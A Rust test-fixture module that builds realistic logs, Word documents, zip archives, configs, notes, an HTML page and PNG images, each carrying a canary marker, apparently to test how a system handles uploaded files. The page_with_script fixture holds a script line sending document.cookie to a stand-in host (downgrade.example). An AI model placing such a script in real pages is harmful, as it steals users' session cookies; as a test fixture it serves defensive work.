//! Real-looking files, each with [`canary::CONTENT`] inside, made anew each time and always the same.

use std::io::{self, Write};

use bytes::Bytes;
use zip::{CompressionMethod, ZipWriter, result::ZipError, write::SimpleFileOptions};

use super::canary;
use crate::forum::{Chunks, PracticeFile};

/// Size of the big log in bytes: 40 MiB.
pub const BIG_LOG: u64 = 40 * 1024 * 1024;

/// Pieces in which generated files come.
const PIECE: usize = 64 * 1024;

/// Why a file could not be made.
#[derive(Debug, thiserror::Error)]
pub enum ContentError {
    /// Writing an archive's structure failed.
    #[error("an archive could not be written")]
    Archive(#[from] ZipError),
    /// Writing an archive's content failed.
    #[error("an archive's content could not be written")]
    Content(#[from] io::Error),
}

/// A log of `size` bytes, made while it is read.
///
/// A block of lines is written once and comes again and again, each time after a line of its own: no two
/// places in the log are the same, and forty megabytes take no time.
pub fn log(name: &str, size: u64) -> PracticeFile {
    PracticeFile::generated(name, move || -> Chunks { Box::new(Log { left: size, piece: 0, block: block() }) })
}

struct Log {
    left: u64,
    piece: u64,
    block: Vec<u8>,
}

impl Iterator for Log {
    type Item = Bytes;

    fn next(&mut self) -> Option<Bytes> {
        if self.left == 0 {
            return None;
        }
        let minute = self.piece / 60 % 60;
        let mut piece = format!(
            "2026-11-23T{:02}:{minute:02}:{:02}.000Z INFO  [main] convert.pipeline: session={} batch={}\n",
            8 + self.piece / 3600 % 12,
            self.piece % 60,
            canary::CONTENT,
            self.piece
        )
        .into_bytes();
        piece.extend_from_slice(&self.block);
        if piece.len() as u64 >= self.left {
            piece.truncate(usize::try_from(self.left).unwrap_or(piece.len()));
            if let Some(last) = piece.last_mut() {
                *last = b'\n';
            }
        }
        self.piece += 1;
        self.left -= piece.len() as u64;
        Some(Bytes::from(piece))
    }
}

/// About [`PIECE`] bytes of lines: the same on every machine.
fn block() -> Vec<u8> {
    let mut dice = 0x9e37_79b9_7f4a_7c15_u64;
    let mut roll = |sides: u64| {
        // A xorshift step.
        dice ^= dice << 13;
        dice ^= dice >> 7;
        dice ^= dice << 17;
        dice % sides
    };
    let mut block = String::with_capacity(PIECE + 256);
    let mut line = 0u64;
    while block.len() < PIECE {
        let level = match roll(40) {
            0 => "ERROR",
            1..=3 => "WARN ",
            _ => "INFO ",
        };
        let (second, milli, worker) = (line / 16 % 60, roll(1000), roll(16));
        block.push_str(&format!(
            "2026-11-23T08:00:{second:02}.{milli:03}Z {level} [worker-{worker:02}] convert.pipeline: "
        ));
        match line % 32 {
            1..=3 => block.push_str(&format!("heap used {} KiB, {} objects alive\n", roll(900_000), roll(50_000))),
            _ => block.push_str(&format!("page={} glyphs={} took {} us\n", roll(400) + 1, roll(9000), roll(70_000))),
        }
        line += 1;
    }
    block.into_bytes()
}

/// A document that word processors open.
///
/// # Errors
/// When the archive cannot be written.
pub fn docx(name: &str) -> Result<PracticeFile, ContentError> {
    let mut paragraphs = String::new();
    for number in 1..=212 {
        paragraphs.push_str(&format!(
            "<w:p><w:r><w:t>Entry {number}: balance carried forward, reference {}.</w:t></w:r></w:p>",
            canary::CONTENT
        ));
    }
    let document = format!(
        "{XML}<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\">\
         <w:body>{paragraphs}<w:sectPr/></w:body></w:document>"
    );
    let custom = format!(
        "{XML}<Properties xmlns=\"http://schemas.openxmlformats.org/officeDocument/2006/custom-properties\" \
         xmlns:vt=\"http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes\">\
         <property fmtid=\"{{D5CDD505-2E9C-101B-9397-08002B2CF9AE}}\" pid=\"2\" name=\"Reference\">\
         <vt:lpwstr>{}</vt:lpwstr></property></Properties>",
        canary::CONTENT
    );
    zipped(
        name,
        &[
            ("[Content_Types].xml", CONTENT_TYPES, CompressionMethod::Deflated),
            ("_rels/.rels", RELATIONS, CompressionMethod::Deflated),
            ("word/document.xml", &document, CompressionMethod::Deflated),
            // Stored, so that the mark is there in plain bytes.
            ("docProps/custom.xml", &custom, CompressionMethod::Stored),
        ],
    )
}

const XML: &str = "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n";
const CONTENT_TYPES: &str = "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n\
<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">\
<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>\
<Default Extension=\"xml\" ContentType=\"application/xml\"/>\
<Override PartName=\"/word/document.xml\" \
ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/>\
<Override PartName=\"/docProps/custom.xml\" \
ContentType=\"application/vnd.openxmlformats-officedocument.custom-properties+xml\"/></Types>";
const RELATIONS: &str = "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n\
<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">\
<Relationship Id=\"rId1\" \
Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\" \
Target=\"word/document.xml\"/>\
<Relationship Id=\"rId2\" \
Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/custom-properties\" \
Target=\"docProps/custom.xml\"/></Relationships>";

/// An archive with a configuration and a stack trace.
///
/// # Errors
/// When the archive cannot be written.
pub fn archive(name: &str) -> Result<PracticeFile, ContentError> {
    let trace = format!(
        "session {}\nSystem.InvalidOperationException: central directory not found\n   at Reader.Open(Stream)\n",
        canary::CONTENT
    );
    zipped(
        name,
        &[
            ("settings.xml", &configuration_text(), CompressionMethod::Deflated),
            ("crash/trace.txt", &trace, CompressionMethod::Stored),
        ],
    )
}

fn zipped(name: &str, entries: &[(&str, &str, CompressionMethod)]) -> Result<PracticeFile, ContentError> {
    let mut writer = ZipWriter::new(io::Cursor::new(Vec::new()));
    for (path, content, method) in entries {
        let options = SimpleFileOptions::default().compression_method(*method);
        writer.start_file(*path, options)?;
        writer.write_all(content.as_bytes())?;
    }
    Ok(PracticeFile::bytes(name, writer.finish()?.into_inner()))
}

fn configuration_text() -> String {
    format!(
        "<?xml version=\"1.0\"?>\n<settings>\n  <owner>{}</owner>\n  <threads>8</threads>\n</settings>\n",
        canary::CONTENT
    )
}

/// A configuration; the same bytes under whatever name.
pub fn configuration(name: &str) -> PracticeFile {
    PracticeFile::bytes(name, configuration_text())
}

/// A short text that differs with its name.
pub fn note(name: &str) -> PracticeFile {
    PracticeFile::bytes(name, format!("{}\nThis is the content of {name}.\n", canary::CONTENT))
}

/// A page that would run a script if a browser were shown it.
pub fn page_with_script(name: &str) -> PracticeFile {
    PracticeFile::bytes(
        name,
        format!(
            "<!DOCTYPE html>\n<html><head><title>Report</title></head><body onload=\"document.title='ran'\">\n\
             <p>{}</p>\n<script>fetch('http://downgrade.example/?' + document.cookie)</script>\n</body></html>\n",
            canary::CONTENT
        ),
    )
}

/// A picture with a gradient: a valid PNG of this size in pixels.
pub fn png(name: &str, width: u32, height: u32) -> PracticeFile {
    let mut pixels = Vec::new();
    for row in 0..height {
        // Each row starts with its filter: none.
        pixels.push(0);
        for column in 0..width {
            pixels.extend([(column % 256) as u8, (row % 256) as u8, ((column + row) % 256) as u8]);
        }
    }
    let mut header = Vec::new();
    header.extend(width.to_be_bytes());
    header.extend(height.to_be_bytes());
    // Eight bits per colour, three colours, no interlacing.
    header.extend([8, 2, 0, 0, 0]);
    let mut file = b"\x89PNG\r\n\x1a\n".to_vec();
    chunk(&mut file, b"IHDR", &header);
    chunk(&mut file, b"tEXt", format!("Comment\0{}", canary::CONTENT).as_bytes());
    chunk(&mut file, b"IDAT", &stored(&pixels));
    chunk(&mut file, b"IEND", &[]);
    PracticeFile::bytes(name, file)
}

fn chunk(file: &mut Vec<u8>, kind: &[u8; 4], content: &[u8]) {
    file.extend((content.len() as u32).to_be_bytes());
    let start = file.len();
    file.extend(kind);
    file.extend(content);
    let sum = crc32(file.get(start..).unwrap_or_default());
    file.extend(sum.to_be_bytes());
}

/// A zlib stream that compresses nothing.
fn stored(content: &[u8]) -> Vec<u8> {
    let mut stream = vec![0x78, 0x01];
    let mut blocks = content.chunks(0xffff).peekable();
    while let Some(block) = blocks.next() {
        let length = block.len() as u16;
        stream.push(u8::from(blocks.peek().is_none()));
        stream.extend(length.to_le_bytes());
        stream.extend((!length).to_le_bytes());
        stream.extend(block);
    }
    let (mut a, mut b) = (1u32, 0u32);
    for byte in content {
        a = (a + u32::from(*byte)) % 65521;
        b = (b + a) % 65521;
    }
    stream.extend(((b << 16) | a).to_be_bytes());
    stream
}

fn crc32(bytes: &[u8]) -> u32 {
    let mut sum = u32::MAX;
    for byte in bytes {
        sum ^= u32::from(*byte);
        for _ in 0..8 {
            sum = (sum >> 1) ^ (0xedb8_8320 & (0u32.wrapping_sub(sum & 1)));
        }
    }
    !sum
}

#[cfg(test)]
mod tests {
    use std::io::Read;

    use super::*;

    fn content(file: &PracticeFile) -> Vec<u8> {
        file.chunks().flatten().collect()
    }

    fn holds_mark(bytes: &[u8]) -> bool {
        bytes.windows(canary::CONTENT.len()).any(|window| window == canary::CONTENT.as_bytes())
    }

    #[test]
    fn the_log_is_as_long_as_asked_in_lines_and_always_the_same() {
        let log = log("a.log", 300_000);
        let bytes = content(&log);
        assert_eq!(bytes.len(), 300_000);
        assert_eq!(bytes.last(), Some(&b'\n'));
        assert!(std::str::from_utf8(&bytes).unwrap().lines().all(|line| line.starts_with("2026-11-23T")));
        assert_eq!(bytes, content(&log));
        assert!(log.chunks().all(|piece| piece.len() < 2 * PIECE));
    }

    #[test]
    fn archives_open_and_hold_what_they_should() {
        for file in [docx("a.docx").unwrap(), archive("a.zip").unwrap()] {
            let bytes = content(&file);
            assert!(holds_mark(&bytes));
            let mut archive = zip::ZipArchive::new(io::Cursor::new(bytes)).unwrap();
            for index in 0..archive.len() {
                let mut text = String::new();
                archive.by_index(index).unwrap().read_to_string(&mut text).unwrap();
                assert!(!text.is_empty());
            }
        }
    }

    #[test]
    fn every_file_with_content_carries_the_mark() {
        for file in [
            log("a.log", 100_000),
            configuration("a.xml"),
            note("a.txt"),
            page_with_script("a.html"),
            png("a.png", 40, 30),
        ] {
            assert!(holds_mark(&content(&file)), "{}", file.name());
        }
    }

    #[test]
    fn checksums_are_the_ones_png_wants() {
        assert_eq!(crc32(b"IEND"), 0xae42_6082);
        assert_eq!(stored(b"").get(..2), Some(&[0x78, 0x01][..]));
        let ends = stored(b"Wikipedia");
        assert_eq!(ends.get(ends.len() - 4..), Some(&0x11e6_0398u32.to_be_bytes()[..]));
    }
}
